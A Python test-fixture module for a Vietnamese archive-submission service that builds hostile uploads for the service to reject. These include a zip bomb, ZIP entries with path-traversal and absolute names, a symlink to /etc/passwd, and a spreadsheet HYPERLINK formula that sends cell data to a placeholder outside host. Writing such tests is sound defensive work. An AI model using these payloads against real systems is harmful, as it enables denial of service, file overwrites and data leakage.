"""Submissions that must be met with a clear finding or error, each made on its own for tests."""

import tempfile
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

from archive_service.demo.agency import SAMPLE_AGENCY
from archive_service.demo.case_files import SHEET_NAME
from archive_service.demo.papers import Paper, print_paper, read_case
from archive_service.demo.sheets import (
    CASE_FILE_HEADINGS,
    DOCUMENT_HEADINGS,
    case_row,
    document_row,
    write_submission_sheet,
)

CODE = "H40.18.2025.08.QLCT"
FILE = "01 Biên bản bàn giao.pdf"
TITLE = "Hồ sơ bàn giao Trạm bơm Khe Lạnh"
NAME_BYTES = 255  # the longest name that Linux file systems hold
_CHUNK = bytes(1 << 20)


def small_case(folder: Path, *, code: str = CODE, file: str = FILE) -> Path:
    """A good case file of one document; what the others spoil. Returns ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    print_paper(_paper(), folder / file, agency=SAMPLE_AGENCY)
    write_small_sheet(folder, code=code, files=file)
    return folder


def write_small_sheet(
    folder: Path, *, code: str = CODE, files: str = FILE, title: str = TITLE, **changed: str
) -> Path:
    """The sheet of a case file of one document; ``changed`` overrides fields of the document."""
    paper = _paper()
    case_file = case_row(
        code,
        title,
        maintenance="20 năm",
        startDate=paper.date,
        endDate=paper.date,
        creator="Trần Văn Bách",
    )
    document = document_row(code, files, **paper.fields(), organName=SAMPLE_AGENCY.name) | changed
    sheet = folder / SHEET_NAME
    write_submission_sheet(sheet, [case_file], [document], vietnamese=True)
    return sheet


def zip_of(folder: Path, target: Path) -> Path:
    """The files of ``folder`` as a ZIP, its sheet at the root."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(path for path in folder.rglob("*") if path.is_file()):
            archive.write(file, file.relative_to(folder).as_posix())
    return target


def zip_bomb(target: Path, *, unpacked_bytes: int = 256 << 20) -> Path:
    """A good case file with one more entry of zeros: a thousandth of its size when packed."""
    _zip_of_small_case(target)
    with (
        zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("02 Phụ lục.pdf", "w", force_zip64=True) as entry,
    ):
        for start in range(0, unpacked_bytes, len(_CHUNK)):
            entry.write(_CHUNK[: min(len(_CHUNK), unpacked_bytes - start)])
    return target


def zip_with_escaping_names(target: Path) -> Path:
    """A good case file with entries that want to lie outside the folder they are unpacked to."""
    _zip_of_small_case(target)
    with zipfile.ZipFile(target, "a") as archive:
        for name in ("../ngoai.txt", "A/../../ngoai.txt", "/tmp/tuyet-doi.txt", "C:\\o-dia.txt"):
            archive.writestr(name, "không được ghi ra ngoài")
        link = zipfile.ZipInfo("lien-ket.pdf")
        link.create_system = 3  # Unix
        link.external_attr = 0o120777 << 16  # a symbolic link
        archive.writestr(link, "/etc/passwd")
    return target


def truncated_pdf(folder: Path) -> Path:
    """The document ends in the middle, as after a broken transfer."""
    small_case(folder)
    file = folder / FILE
    file.write_bytes(file.read_bytes()[: file.stat().st_size // 2])
    return folder


def empty_file(folder: Path) -> Path:
    """The document holds no byte."""
    small_case(folder)
    (folder / FILE).write_bytes(b"")
    return folder


def sheet_with_formulas(folder: Path) -> Path:
    """Cells that are computed, among them one that would call outside."""
    import openpyxl

    small_case(folder)
    book: Any = openpyxl.load_workbook(folder / SHEET_NAME)
    titles = list(CASE_FILE_HEADINGS)
    subjects = list(DOCUMENT_HEADINGS)
    case_files, documents = book["Hồ sơ"], book["Văn bản"]
    case_files.cell(2, titles.index("title") + 1).value = '="Hồ sơ "&"ghép"'
    documents.cell(
        2, subjects.index("subject") + 1
    ).value = '=HYPERLINK("http://192.0.2.1/"&A2,"Trích yếu")'
    book.save(folder / SHEET_NAME)
    return folder


def nfd_names(folder: Path) -> Path:
    """The file's name is decomposed (NFD), as some systems write it; the sheet says it in NFC."""
    small_case(folder)
    (folder / FILE).rename(folder / unicodedata.normalize("NFD", FILE))
    return folder


def longest_names(folder: Path) -> Path:
    """A Vietnamese name of exactly 255 bytes: the most that fits, and to be kept."""
    small_case(folder)
    ending = ".pdf"
    name = "Hồ sơ "
    while len((name + "ế" + ending).encode()) <= NAME_BYTES:
        name += "ế"
    name += "x" * (NAME_BYTES - len((name + ending).encode())) + ending
    (folder / FILE).rename(folder / name)
    write_small_sheet(folder, files=name)
    return folder


def _paper() -> Paper:
    return read_case("case_c").papers[0]


def _zip_of_small_case(target: Path) -> None:
    with tempfile.TemporaryDirectory() as temporary:
        zip_of(small_case(Path(temporary) / "case"), target)
